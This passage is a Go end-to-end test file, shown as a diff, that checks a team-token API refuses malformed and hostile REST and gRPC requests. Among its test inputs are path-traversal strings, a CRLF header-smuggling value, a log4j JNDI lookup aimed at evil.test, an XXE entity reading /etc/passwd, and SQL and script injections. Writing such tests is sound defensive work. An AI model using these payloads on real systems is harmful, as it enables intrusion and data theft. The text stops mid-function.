@@ -1,0 +1,813 @@
+package e2e
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"io"
+	"math"
+	"net"
+	"net/http"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	spb "google.golang.org/genproto/googleapis/rpc/status"
+	"google.golang.org/grpc/codes"
+	"google.golang.org/grpc/status"
+	"google.golang.org/protobuf/encoding/protowire"
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/known/timestamppb"
+
+	teamtokenv1 "github.com/teamtoken/teamtoken/gen/go/teamtoken/v1"
+	"github.com/teamtoken/teamtoken/internal/reason"
+	"github.com/teamtoken/teamtoken/internal/simulator"
+)
+
+// Everything here goes out as the bytes that stand here: HTTP/1.1 requests over
+// TCP, gRPC frames over HTTP/2. A well-behaved client would clean some of it.
+
+const (
+	team         = simulator.SeedTeam
+	tokenPath    = "/api/v2/teams/" + team + "/authentication-token"
+	jsonAPI      = "application/vnd.api+json"
+	invalidField = "INVALID_FIELD"
+	generate     = "/teamtoken.v1.TeamTokenService/GenerateToken"
+	get          = "/teamtoken.v1.TeamTokenService/GetToken"
+	del          = "/teamtoken.v1.TeamTokenService/DeleteToken"
+)
+
+// A restCase is a request that is refused with status and, where an RPC is
+// meant by it, with a reason.
+type restCase struct {
+	name    string
+	request rawRequest
+	status  int
+	reason  string
+	byHTTP  bool // net/http refuses it by itself, in plain text
+}
+
+// A rawRequest gets a Host and the length of its body where its headers name none.
+type rawRequest struct {
+	method, target string
+	headers        []string
+	body           string
+	cut            bool // the connection ends where the bytes do
+}
+
+func (r rawRequest) bytes() []byte {
+	has := func(prefix string) bool {
+		return slices.ContainsFunc(r.headers, func(h string) bool { return strings.HasPrefix(h, prefix) })
+	}
+	var b bytes.Buffer
+	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", r.method, r.target)
+	if !has("Host") {
+		b.WriteString("Host: teamtoken.test\r\n")
+	}
+	for _, h := range r.headers {
+		b.WriteString(h + "\r\n")
+	}
+	if r.body != "" && !has("Content-Length") && !has("Transfer-Encoding") {
+		fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.body))
+	}
+	b.WriteString("\r\n" + r.body)
+	return b.Bytes()
+}
+
+// sendREST writes the request to a connection of its own.
+func (f *facade) sendREST(t *testing.T, r rawRequest) (*http.Response, []byte) {
+	t.Helper()
+	conn, err := net.Dial("tcp", strings.TrimPrefix(f.rest, "http://")) //nolint:noctx // loopback
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	_ = conn.SetDeadline(time.Now().Add(patience))
+	wrote := make(chan struct{})
+	go func() { // the answer may come before all is written
+		defer close(wrote)
+		_, _ = conn.Write(r.bytes())
+		if r.cut {
+			_ = conn.(*net.TCPConn).CloseWrite()
+		}
+	}()
+	defer func() { _ = conn.Close(); <-wrote }()
+	resp, err := http.ReadResponse(bufio.NewReader(conn), &http.Request{Method: r.method})
+	if err != nil {
+		t.Fatalf("no answer: %v", err)
+	}
+	body, err := io.ReadAll(resp.Body)
+	if err != nil && resp.ContentLength >= 0 {
+		t.Fatalf("half an answer: %v", err)
+	}
+	if resp.StatusCode >= 400 {
+		fmt.Fprintf(&f.answers, "%v %v %s\n", resp.Status, resp.Header, body)
+	}
+	return resp, body
+}
+
+func (c restCase) run(t *testing.T, f *facade) {
+	t.Helper()
+	resp, body := f.sendREST(t, c.request)
+	if resp.StatusCode != c.status {
+		t.Fatalf("status %d, want %d: %s", resp.StatusCode, c.status, body)
+	}
+	if c.byHTTP {
+		return
+	}
+	if got := resp.Header.Get("Content-Type"); got != jsonAPI {
+		t.Errorf("content type %q", got)
+	}
+	if got := resp.Header.Get("Cache-Control"); got != "no-store" {
+		t.Errorf("cache control %q", got)
+	}
+	if c.request.method == http.MethodHead {
+		return
+	}
+	var doc struct {
+		Errors []struct {
+			Status, Code, Title string
+			Meta                struct {
+				RequestID string `json:"request_id"`
+				Outcome   string
+			}
+		}
+	}
+	if err := json.Unmarshal(body, &doc); err != nil || len(doc.Errors) == 0 {
+		t.Fatalf("no error document: %v: %s", err, body)
+	}
+	for _, e := range doc.Errors {
+		if e.Status != strconv.Itoa(c.status) || e.Title == "" || e.Code != c.reason {
+			t.Errorf("want status %d and reason %q: %s", c.status, c.reason, body)
+		}
+		if e.Meta.RequestID == "" || e.Meta.RequestID != resp.Header.Get("X-Request-Id") {
+			t.Errorf("the request id is not that of the header: %s", body)
+		}
+		if e.Meta.Outcome != "" && e.Meta.Outcome != string(reason.NotApplied) {
+			t.Errorf("outcome %q", e.Meta.Outcome)
+		}
+	}
+}
+
+// A grpcCase is a call that is refused with a code and, where it is one of this
+// service's methods, with a reason.
+type grpcCase struct {
+	name    string
+	method  string
+	headers [][2]string
+	message []byte
+	code    codes.Code
+	reason  string
+}
+
+// sendGRPC sends one framed message. It takes what stands in the trailer, or in
+// the header of an answer that is nothing else.
+func (f *facade) sendGRPC(t *testing.T, client *http.Client, method string, headers [][2]string, message []byte) *status.Status {
+	t.Helper()
+	n := len(message)
+	frame := []byte{0, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
+	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://"+f.grpc+method, bytes.NewReader(append(frame, message...)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Header.Set("Content-Type", "application/grpc")
+	req.Header.Set("Te", "trailers")
+	for _, h := range headers {
+		req.Header[h[0]] = append(req.Header[h[0]], h[1])
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	_, _ = io.ReadAll(resp.Body) // the status says what came of it
+	h := resp.Trailer
+	if h.Get("Grpc-Status") == "" {
+		h = resp.Header
+	}
+	if code, err := strconv.Atoi(h.Get("Grpc-Status")); err != nil {
+		t.Fatalf("no gRPC status: %v %v %v", resp.Status, resp.Header, resp.Trailer)
+	} else if h.Get("Grpc-Status-Details-Bin") == "" {
+		return status.New(codes.Code(code), h.Get("Grpc-Message")) //nolint:gosec // small
+	}
+	var p spb.Status
+	details, err := base64.RawStdEncoding.DecodeString(strings.TrimRight(h.Get("Grpc-Status-Details-Bin"), "="))
+	if err != nil || proto.Unmarshal(details, &p) != nil {
+		t.Fatalf("the details of the status are malformed: %v", h)
+	}
+	fmt.Fprintf(&f.answers, "%v\n", status.FromProto(&p).Err())
+	return status.FromProto(&p)
+}
+
+func (c grpcCase) run(t *testing.T, f *facade, client *http.Client) {
+	t.Helper()
+	st := f.sendGRPC(t, client, c.method, c.headers, c.message)
+	d := reason.DetailsOf(st)
+	if st.Code() != c.code || d.Reason != c.reason || st.Message() == "" {
+		t.Fatalf("%v %q: %s; want %v %q", st.Code(), d.Reason, st.Message(), c.code, c.reason)
+	}
+	if c.reason == "" {
+		return
+	}
+	if d.RequestID == "" {
+		t.Error("no request id")
+	}
+	if c.reason == invalidField && len(d.Violations) == 0 {
+		t.Error("no field is named")
+	}
+	if want := map[bool]string{false: string(reason.NotApplied)}[c.method == get]; d.Outcome != want {
+		t.Errorf("outcome %q, want %q", d.Outcome, want)
+	}
+}
+
+// http2 is a client that speaks HTTP/2 in the clear, as gRPC does.
+func http2(t *testing.T) *http.Client {
+	t.Helper()
+	transport := &http.Transport{Protocols: new(http.Protocols)}
+	transport.Protocols.SetUnencryptedHTTP2(true)
+	t.Cleanup(transport.CloseIdleConnections)
+	return &http.Client{Transport: transport, Timeout: patience}
+}
+
+// What is hostile is refused with a clear error, and nothing goes upstream.
+func TestHostile(t *testing.T) {
+	sim, url := newSimulator(t)
+	service, callers := start(t, withService(sim, url)), start(t, withCallers(sim, url))
+	client := http2(t)
+	nothingUpstream := func(t *testing.T) {
+		t.Helper()
+		if n := len(sim.Requests()); n != 0 {
+			t.Errorf("%d requests went upstream", n)
+			sim.Reset()
+		}
+	}
+
+	cases := 0
+	seen := map[string]bool{}
+	run := func(f *facade, surface, name string, test func(*testing.T, *facade)) {
+		name = surface + "/" + name
+		if seen[name] {
+			t.Errorf("there are two cases %q", name)
+		}
+		seen[name], cases = true, cases+1
+		t.Run(name, func(t *testing.T) {
+			test(t, f)
+			nothingUpstream(t)
+		})
+	}
+	for _, c := range slices.Concat(teamIDsOverREST(), paths(), methods(), bodies(), contentTypes(), headers(), queries(), refusedByHTTP()) {
+		run(service, "rest", c.name, c.run)
+	}
+	for _, c := range slices.Concat(teamIDsOverGRPC(), fields(), messages(), unknownMethods()) {
+		run(service, "grpc", c.name, func(t *testing.T, f *facade) { c.run(t, f, client) })
+	}
+	for _, a := range authorizations() {
+		run(callers, "rest", "authorization "+a.name, func(t *testing.T, f *facade) { a.overREST(t, f) })
+		run(callers, "grpc", "authorization "+a.name, func(t *testing.T, f *facade) { a.overGRPC(t, f, client) })
+	}
+	t.Logf("%d hostile cases", cases)
+	if cases < 200 {
+		t.Error("there are to be 200 at least")
+	}
+}
+
+// teamIDs are ids of no team. rest is the status over REST: 404 where the path
+// is that of nothing, 400 otherwise; 0 where net/http takes it for no request.
+var teamIDs = []struct {
+	name, id string
+	rest     int
+}{
+	{"empty", "", 400},
+	{"prefix alone", "team-", 400},
+	{"a dot", ".", 400},
+	{"two dots", "..", 400},
+	{"traversal", "../organizations/acme", 404},
+	{"traversal within", "team-../../organizations/acme/authentication-token", 404},
+	{"traversal of the right length", "team-../../../../../.", 404},
+	{"traversal with a parameter", "..;/organizations/acme", 404},
+	{"traversal with backslashes", `..\..\organizations\acme`, 400},
+	{"traversal, percent-encoded", "%2e%2e%2forganizations%2facme", 400},
+	{"traversal, doubly percent-encoded", "%252e%252e%252forganizations%252facme", 400},
+	{"traversal, over-long UTF-8", "team-\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae\xc0\xaf\xc0\xae\xc0\xae", 400},
+	{"a valid letter percent-encoded", "team-%42UHBEM97xboT8TVz", 400},
+	{"a valid hyphen percent-encoded", "team%2DBUHBEM97xboT8TVz", 400},
+	{"a percent sign alone", "team-BUHBEM97xboT8TV%", 0},
+	{"a percent sign and no digits", "team-BUHBEM97xboT8%zz", 0},
+	{"a percent-encoded NUL", "team-BUHBEM97xboT8TVz%00", 400},
+	{"a percent-encoded line feed", "team-BUHBEM97xboT8TVz%0a", 400},
+	{"a NUL within", "team-BUHBEM97x\x00oT8TVz", 0},
+	{"a NUL after", "team-BUHBEM97xboT8TVz\x00", 0},
+	{"a line feed after", "team-BUHBEM97xboT8TVz\n", 0},
+	{"a line feed within", "team-BUHBEM97xboT8\nVz", 0},
+	{"a smuggled header", "team-BUHBEM97xboT8TVz\r\nX-A: b\r\n", 0},
+	{"a tab", "team-BUHBEM97xboT8T\tz", 0},
+	{"a space before", " team-BUHBEM97xboT8TVz", 0},
+	{"a space after", "team-BUHBEM97xboT8TVz ", 0},
+	{"an escape", "team-BUHBEM97xboT8\x1b[m", 0},
+	{"a DEL", "team-BUHBEM97xboT8TV\x7f", 0},
+	{"one short", "team-BUHBEM97xboT8TV", 400},
+	{"one over", "team-BUHBEM97xboT8TVzz", 400},
+	{"two ids", team + "," + team, 400},
+	{"over-long", "team-" + strings.Repeat("A", 4000), 400},
+	{"far over-long", "team-" + strings.Repeat("A", 60000), 431},
+	{"prefix in upper case", "TEAM-BUHBEM97xboT8TVz", 400},
+	{"prefix with a capital", "Team-BUHBEM97xboT8TVz", 400},
+	{"another prefix", "user-BUHBEM97xboT8TVz", 400},
+	{"an underscore for the hyphen", "team_BUHBEM97xboT8TVz", 400},
+	{"an underscore among the letters", "team-BUHBEM97xbo_8TVz", 400},
+	{"no prefix", "BUHBEM97xboT8TVz", 400},
+	{"a token's id", "at-BUHBEM97xboT8TVz", 400},
+	{"a token's id of the right length", "at-BUHBEM97xboT8TVzab", 400},
+	{"an old token's id", "4111797", 400},
+	{"an organization", "acme", 400},
+	{"a team's name", "platform", 400},
+	{"full-width letter", "team-ＢUHBEM97xboT8T", 400},
+	{"Cyrillic letter", "team-ВUHBEM97xboT8TVz", 400},
+	{"Arabic digit", "team-BUHBEM٩٧xboT8TVz", 400},
+	{"en dash", "team–BUHBEM97xboT8TVz", 400},
+	{"a zero-width space", "team-BUHBEM97xboT8TVz\u200b", 400},
+	{"right-to-left override", "\u202eteam-BUHBEM97xboT8TVz", 400},
+	{"a combining mark", "team-BUHBEM97xboT8TVz\u0301", 400},
+	{"a bad byte", "team-BUHBEM97xboT8TV\xff", 400},
+	{"a trailing slash", team + "/", 404},
+	{"a leading slash", "/" + team, 404},
+	{"a query", team + "?x=", 404},
+	{"a query and a fragment", team + "?#", 404},
+	{"a fragment", team + "#", 400},
+	{"a matrix parameter", team + ";v=1", 400},
+	{"a verb", team + ":generate", 400},
+	{"a host", "@evil.test", 400},
+	{"an address", "http://evil.test/", 404},
+	{"a wildcard", "*", 400},
+	{"a template", "{team_id}", 400},
+	{"a format verb", "%s%s%s%n", 0},
+	{"a log4j lookup", "${jndi:ldap://evil.test/a}", 404},
+	{"SQL", "team-'OR'1'='1'--aaaa", 400},
+	{"markup", "<script>", 400},
+}
+
+// httpMethods are those of the three RPCs.
+var httpMethods = []string{http.MethodPost, http.MethodGet, http.MethodDelete}
+
+func teamIDsOverREST() (cases []restCase) {
+	for i, id := range teamIDs {
+		c := restCase{
+			name:    "team id " + id.name,
+			request: rawRequest{method: httpMethods[i%3], target: "/api/v2/teams/" + id.id + "/authentication-token"},
+			status:  id.rest,
+		}
+		switch id.rest {
+		case 0:
+			c.status, c.byHTTP = 400, true
+		case 431:
+			c.byHTTP = true
+		case 400:
+			c.reason = invalidField
+		}
+		cases = append(cases, c)
+	}
+	return cases
+}
+
+func teamIDsOverGRPC() (cases []grpcCase) {
+	for i, id := range teamIDs {
+		cases = append(cases, grpcCase{
+			name: "team id " + id.name, method: []string{generate, get, del}[i%3],
+			message: text(1, id.id), code: codes.InvalidArgument, reason: invalidField,
+		})
+	}
+	return cases
+}
+
+// text is a string field of a message.
+func text(number protowire.Number, s string) []byte {
+	return protowire.AppendString(protowire.AppendTag(nil, number, protowire.BytesType), s)
+}
+
+// paths stand next to the served ones.
+func paths() (cases []restCase) {
+	for _, p := range []string{
+		"/", "//", "/api", "/api/v2", "/api/v2/", "/api/v1/teams/" + team + "/authentication-token", "/teams/" + team,
+		tokenPath + "/", tokenPath + ".json", tokenPath + "s", tokenPath + "s/at-1", tokenPath + ":x", tokenPath + "//",
+		"//api/v2/teams/" + team + "/authentication-token", "/api/v2//teams/" + team + "/authentication-token",
+		"/api/v2/./teams/" + team + "/authentication-token", "/api/v2/x/../teams/" + team + "/authentication-token",
+		"/API/v2/teams/" + team + "/authentication-token", "/api/v2/teams/" + team + "/Authentication-Token",
+		"/api/v2/organizations/acme/authentication-token", "/api/v2/authentication-tokens/at-1", "/api/v2/account/details",
+		"/api/v2/teams/" + team, "/metrics", "/debug/pprof/heap", "/readyz", get,
+	} {
+		cases = append(cases, restCase{name: "path " + p, request: rawRequest{method: http.MethodGet, target: p}, status: 404})
+	}
+	return cases
+}
+
+// methods are not those of the path, and no header makes them so.
+func methods() (cases []restCase) {
+	for _, m := range []string{"PUT", "PATCH", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "QUERY", "get", "Post", "POSTT", "X"} {
+		cases = append(cases, restCase{
+			name: "method " + m, status: 405,
+			request: rawRequest{method: m, target: tokenPath, headers: []string{"X-HTTP-Method-Override: POST"}},
+		})
+	}
+	for _, override := range []string{"X-HTTP-Method-Override: GET", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"} {
+		cases = append(cases, restCase{
+			name: "a form with " + override, status: 415,
+			request: rawRequest{
+				method: "POST", target: tokenPath, body: "_method=DELETE&team_id=" + team,
+				headers: []string{"Content-Type: application/x-www-form-urlencoded", override},
+			},
+		})
+	}
+	return append(cases,
+		restCase{name: "a POST to ping", request: rawRequest{method: "POST", target: "/api/v2/ping"}, status: 405},
+		restCase{name: "a DELETE of ping", request: rawRequest{method: "DELETE", target: "/api/v2/ping"}, status: 405},
+	)
+}
+
+// post is a request that has a body and says that it is JSON:API.
+func post(body string, headers ...string) rawRequest {
+	return rawRequest{method: "POST", target: tokenPath, body: body, headers: append([]string{"Content-Type: " + jsonAPI}, headers...)}
+}
+
+// attributes is a document with these attributes.
+func attributes(s string) string {
+	return `{"data":{"type":"authentication-tokens","attributes":` + s + `}}`
+}
+
+func bodies() (cases []restCase) {
+	add := func(name, body string) {
+		cases = append(cases, restCase{name: "body: " + name, request: post(body), status: 400, reason: invalidField})
+	}
+	// Members of the wrong type, from the outside in.
+	for _, v := range []string{`null`, `true`, `1`, `"x"`, `[]`, `{}`, `[{"data":{}}]`} {
+		add("the document is "+v, v)
+	}
+	for _, v := range []string{`null`, `true`, `1`, `"x"`, `[]`, `[{}]`} {
+		add("data is "+v, `{"data":`+v+`}`)
+	}
+	for _, v := range []string{
+		`true`, `1`, `[]`, `{}`, `"teams"`, `"Authentication-Tokens"`, `" "`, `"authentication-tokens\u0000"`, "\"\xff\"", `"\ud800"`,
+	} {
+		add("type is "+v, `{"data":{"type":`+v+`}}`)
+	}
+	for _, v := range []string{`true`, `1`, `"x"`, `[]`, `[{}]`} {
+		add("attributes are "+v, attributes(v))
+	}
+	for _, v := range []string{
+		`true`, `1`, `4102444800`, `1e99`, `[]`, `{}`, `["2099-01-01T00:00:00Z"]`, `""`, `"never"`, `"null"`, `"tomorrow"`, `"4102444800"`, `"P1Y"`,
+		`"2099-01-01"`, `"2099-01-01T00:00:00"`, `"2099-01-01 00:00:00Z"`, `" 2099-01-01T00:00:00Z"`, `"2099-01-01T00:00:00Z\n"`,
+		`"2099-13-01T00:00:00Z"`, `"2099-02-30T00:00:00Z"`, `"2099-01-01T25:00:00Z"`, `"2099-01-01T00:00:00+25:00"`, `"99-01-01T00:00:00Z"`,
+		`"+2099-01-01T00:00:00Z"`, `"２０９９-01-01T00:00:00Z"`,
+		// Absurd, or over.
+		`"10000-01-01T00:00:00Z"`, `"9999-12-31T23:59:59-23:59"`, `"0000-01-01T00:00:00Z"`, `"0001-01-01T00:00:00Z"`, `"-0001-01-01T00:00:00Z"`,
+		`"1969-12-31T23:59:59Z"`, `"1970-01-01T00:00:00Z"`, `"2026-01-01T00:00:00Z"`,
+	} {
+		add("expired-at is "+v, attributes(`{"expired-at":`+v+`}`))
+	}
+	for _, v := range []string{`"ci"`, `""`, `1`, `{}`, `["ci"]`} {
+		add("description is "+v, attributes(`{"description":`+v+`}`))
+	}
+	// A misspelt expiry would be a token that never expires.
+	for _, name := range []string{
+		"expired_at", "expiredAt", "Expired-At", "EXPIRED-AT", "expires-at", "expired-at ", "expired\u2011at", "expired–at", "",
+		"token", "created-at", "id", "team_id", "request_id", "expected_token_id", "__proto__", "$where",
+	} {
+		add(fmt.Sprintf("attribute %q", name), attributes(fmt.Sprintf(`{%q:"2099-01-01T00:00:00.000Z"}`, name)))
+	}
+	for _, row := range []struct{ name, body string }{
+		{"data twice, then null", `{"data":{},"data":null}`},
+		{"type twice, then another", `{"data":{"type":"authentication-tokens","type":"teams"}}`},
+		{"expired-at twice, then past", attributes(`{"expired-at":"2099-01-01T00:00:00Z","expired-at":"1999-01-01T00:00:00Z"}`)},
+		{"attributes twice, one misspelt", `{"data":{"attributes":{"expired_at":"x"},"attributes":{}}}`},
+		{"nested deep", strings.Repeat("[", 30000) + strings.Repeat("]", 30000)},
+		{"nested deep in an attribute", attributes(`{"expired-at":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`)},
+		{"nested deep beside the data", `{"data":{},"x":` + strings.Repeat(`{"x":`, 11000) + "1" + strings.Repeat("}", 11000) + "}"},
+		{"nested deep and never closed", strings.Repeat(`{"data":`, 8000)},
+		{"a long number", attributes(`{"expired-at":` + strings.Repeat("9", 60000) + `}`)},
+		{"a word after it", `{"data":{}} x`},
+		{"a document after it", `{"data":{}}{"data":{}}`},
+		{"a document on the next line", "{\"data\":{}}\n{\"data\":{}}\n"},
+		{"a NUL after it", "{\"data\":{}}\x00"},
+		{"a NUL before it", "\x00{\"data\":{}}"},
+		{"a byte order mark", "\ufeff{\"data\":{}}"},
+		{"UTF-16", "\xff\xfe{\x00}\x00"},
+		{"NULs", "\x00\x00\x00\x00"},
+		{"not closed", `{"data":{`},
+		{"a trailing comma", `{"data":{},}`},
+		{"a comment", `{"data":{} /* */}`},
+		{"single quotes", `{'data':{}}`},
+		{"a name without quotes", `{data:{}}`},
+		{"NaN", attributes(`{"expired-at":NaN}`)},
+		{"a form", "data=x"},
+		{"XML", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`},
+		{"YAML", "data: {}"},
+		{"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xabV*I,IT\xb2\xaa\xae\x05\x00"},
+		{"a protobuf message", string(text(1, team))},
+		{"the message in place of the document", `{"team_id":"` + team + `","request_id":"a"}`},
+	} {
+		add(row.name, row.body)
+	}
+
+	const tooLong = 64<<10 + 1
+	over := func(name string, r rawRequest) {
+		cases = append(cases, restCase{name: "body: " + name, request: r, status: 413})
+	}
+	over("one byte too long", post(`{"data":{"x":"`+strings.Repeat("x", tooLong-17)+`"}}`))
+	over("long", post(strings.Repeat("x", 200<<10)))
+	over("long, of spaces", post(strings.Repeat(" ", tooLong)))
+	over("long and chunked", post(chunked(strings.Repeat("x", 1000), 100), "Transfer-Encoding: chunked"))
+	over("long, on a DELETE", rawRequest{method: "DELETE", target: tokenPath, body: strings.Repeat("x", tooLong)})
+	over("long, on a GET", rawRequest{method: "GET", target: tokenPath, body: strings.Repeat("x", tooLong)})
+	unread := func(name string, r rawRequest) {
+		r.cut = true
+		cases = append(cases, restCase{name: "body: " + name, request: r, status: 400, reason: invalidField})
+	}
+	unread("shorter than its length", post(`{"data":{}}`, "Content-Length: 100"))
+	unread("far shorter than its length", post(`{"data":{}}`, "Content-Length: 9223372036854775807"))
+	unread("a chunk cut short", post("ff\r\n{\"data\":{}}", "Transfer-Encoding: chunked"))
+	unread("no last chunk", post("b\r\n{\"data\":{}}\r\n", "Transfer-Encoding: chunked"))
+	unread("a chunk without a size", post("\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
+	unread("a chunk of a negative size", post("-b\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
+	unread("a chunk of too great a size", post("fffffffffffffffff\r\n{\"data\":{}}\r\n0\r\n\r\n", "Transfer-Encoding: chunked"))
+	return cases
+}
+
+// chunked is n chunks of s.
+func chunked(s string, n int) string {
+	return strings.Repeat(fmt.Sprintf("%x\r\n%s\r\n", len(s), s), n) + "0\r\n\r\n"
+}
+
+func contentTypes() (cases []restCase) {
+	for name, headers := range map[string][]string{
+		"none":                        {"Content-Type:"},
+		"a semicolon":                 {"Content-Type: ;"},
+		"text":                        {"Content-Type: text/plain"},
+		"HTML":                        {"Content-Type: text/html"},
+		"XML":                         {"Content-Type: application/xml"},
+		"a form":                      {"Content-Type: application/x-www-form-urlencoded"},
+		"a file":                      {"Content-Type: multipart/form-data; boundary=b"},
+		"bytes":                       {"Content-Type: application/octet-stream"},
+		"gRPC":                        {"Content-Type: application/grpc"},
+		"anything":                    {"Content-Type: */*"},
+		"a longer name":               {"Content-Type: application/vnd.api+jsonx"},
+		"a shorter":                   {"Content-Type: application/vnd.api"},
+		"two in one":                  {"Content-Type: application/json, text/plain"},
+		"two":                         {"Content-Type: application/json", "Content-Type: text/plain"},
+		"one twice":                   {"Content-Type: application/json", "Content-Type: application/json"},
+		"a parameter without a value": {"Content-Type: application/json; charset"},
+		"a quote that is not closed":  {`Content-Type: application/json; charset="utf-8`},
+	} {
+		cases = append(cases, restCase{
+			name: "content type " + name, status: 415,
+			request: rawRequest{method: "POST", target: tokenPath, headers: headers, body: `{"data":{}}`},
+		})
+	}
+	return cases
+}
+
+func headers() (cases []restCase) {
+	add := func(name string, headers ...string) {
+		cases = append(cases, restCase{name: name, request: post(`{"data":{}}`, headers...), status: 400, reason: invalidField})
+	}
+	for _, v := range malformedRequestIDs {
+		if !strings.ContainsAny(v, "\x00\n") { // net/http's to refuse, see refusedByHTTP
+			add(fmt.Sprintf("Idempotency-Key %.20q", v), "Idempotency-Key: "+v)
+		}
+	}
+	add("Idempotency-Key empty", "Idempotency-Key:")
+	add("Idempotency-Key of a space", "Idempotency-Key:  ")
+	add("Idempotency-Key twice", "Idempotency-Key: a", "Idempotency-Key: b")
+	add("Idempotency-Key the same twice", "Idempotency-Key: a", "idempotency-key: a")
+	add("Idempotency-Key folded", "Idempotency-Key: a\r\n b")
+	for _, v := range []string{"1", "S", "-1S", "+1S", "1.5S", "1s", "123456789S", "1 S", "1S,1S", "0x1S", "1SS", "∞", "１S", "soon"} {
+		add("Grpc-Timeout "+v, "Grpc-Timeout: "+v)
+	}
+	return cases
+}
+
+var malformedRequestIDs = []string{
+	"a b", "a/b", "../a", "a,b", `"a"`, "a\tb", "a\x00b", "a\nb", "a%20b", "a;b", "{a}", "ä", "ａ", "\u200b", strings.Repeat("a", 129), strings.Repeat("a", 8000),
+}
+
+var malformedTokenIDs = []string{
+	"at_1", "at 1", "at/1", "../at-1", "at-1/..", "at-1?", "at-1#", "at-1\x00", "at-1\n", "at%2d1", "at–1", "аt-1", strings.Repeat("1", 65), "*", ".",
+}
+
+// queries are malformed; what a value may be is fields' to say.
+func queries() (cases []restCase) {
+	for _, q := range []string{
+		"expected_token_id=..%2F..", "expected_token_id=at%001", "expected_token_id=at-1&expected_token_id=at-1", "expected_token_id=+",
+		"expected_token_id=at-1%0a", "expected_token_id=" + strings.Repeat("1", 65), "expected_token_id.x=1",
+		"allow_missing=maybe", "allow_missing=", "allow_missing=true&allow_missing=true", "allow_missing=2",
+		"expected_token_id=%zz", "%", "a;b",
+	} {
+		cases = append(cases, restCase{
+			name: "query " + q, request: rawRequest{method: "DELETE", target: tokenPath + "?" + q}, status: 400, reason: invalidField,
+		})
+	}
+	return cases
+}
+
+// refusedByHTTP are no HTTP requests, or none that net/http lets through.
+func refusedByHTTP() (cases []restCase) {
+	add := func(name string, status int, r rawRequest) {
+		cases = append(cases, restCase{name: "no request: " + name, request: r, status: status, byHTTP: true})
+	}
+	add("no method", 400, rawRequest{target: tokenPath})
+	add("a NUL in the method", 400, rawRequest{method: "POST\x00", target: tokenPath})
+	add("no target", 400, rawRequest{method: "POST"})
+	add("a target that is no path", 400, rawRequest{method: "POST", target: "api/v2"})
+	add("two hosts", 400, post("", "Host: a", "Host: b"))
+	add("a host that is none", 400, post("", "Host: a/../b"))
+	add("a name with a space", 400, post("", "X A: b"))
+	add("a name with a NUL", 400, post("", "X\x00: b"))
+	add("no name", 400, post("", ": b"))
+	add("no colon", 400, post("", "X-A"))
+	add("a space before the colon", 400, post("", "Content-Length : 3"))
+	add("a NUL in a value", 400, post("", "Idempotency-Key: a\x00b"))
+	add("a NUL in the credential", 400, post("", "Authorization: Bearer a\x00b"))
+	add("long headers", 431, post("", "X-A: "+strings.Repeat("a", 64<<10)))
+	add("many headers", 431, post("", slices.Repeat([]string{"X-A: a"}, 20000)...))
+	add("a length below zero", 400, post("x", "Content-Length: -1"))
+	add("a length that is none", 400, post("x", "Content-Length: 1x"))
+	add("two lengths", 400, post("x", "Content-Length: 1", "Content-Length: 2"))
+	add("an expectation", 417, post("", "Expect: nonsense"))
+	add("two codings", 400, post("x", "Transfer-Encoding: chunked", "Transfer-Encoding: chunked"))
+	add("a coding that is not known", 501, post("x", "Transfer-Encoding: gzip, chunked"))
+	return cases
+}
+
+// fields are values of fields beside the team's id.
+func fields() (cases []grpcCase) {
+	add := func(name, method string, m proto.Message) {
+		b, err := proto.Marshal(m)
+		if err != nil {
+			panic(err)
+		}
+		cases = append(cases, grpcCase{name: name, method: method, message: b, code: codes.InvalidArgument, reason: invalidField})
+	}
+	for _, v := range malformedRequestIDs {
+		add(fmt.Sprintf("request_id %.20q", v), generate, &teamtokenv1.GenerateTokenRequest{TeamId: team, RequestId: v})
+	}
+	for i, v := range malformedTokenIDs {
+		name := fmt.Sprintf("expected_token_id %.20q", v)
+		if i%2 == 0 {
+			add(name, generate, &teamtokenv1.GenerateTokenRequest{TeamId: team, ExpectedTokenId: v})
+		} else {
+			add(name, del, &teamtokenv1.DeleteTokenRequest{TeamId: team, ExpectedTokenId: v})
+		}
+	}
+	for name, at := range map[string]*timestamppb.Timestamp{
+		"the epoch":            {},
+		"a year ago":           timestamppb.New(time.Now().AddDate(-1, 0, 0)),
+		"a second ago":         timestamppb.New(time.Now().Add(-time.Second)),
+		"the year 1":           timestamppb.New(time.Time{}),
+		"before the year 1":    {Seconds: -62135596801},
+		"the year 10000":       {Seconds: 253402300800},
+		"the last second":      {Seconds: math.MaxInt64},
+		"the first second":     {Seconds: math.MinInt64},
+		"nanoseconds below 0":  {Seconds: 4102444800, Nanos: -1},
+		"a second of them":     {Seconds: 4102444800, Nanos: 1e9},
+		"the most nanoseconds": {Seconds: 4102444800, Nanos: math.MaxInt32},
+	} {
+		add("expired_at "+name, generate, &teamtokenv1.GenerateTokenRequest{TeamId: team, ExpiredAt: at})
+	}
+	return cases
+}
+
+// messages are bytes that are no message, or not of the method's type.
+func messages() (cases []grpcCase) {
+	id := text(1, team)
+	for name, b := range map[string][]byte{
+		"none":                            nil,
+		"a tag alone":                     {0x0a},
+		"a length beyond the end":         {0x0a, 0x15, 't'},
+		"a length beyond all bounds":      {0x0a, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f},
+		"a varint without an end":         bytes.Repeat([]byte{0xff}, 20),
+		"field number 0":                  append([]byte{0x02, 0x00}, id...),
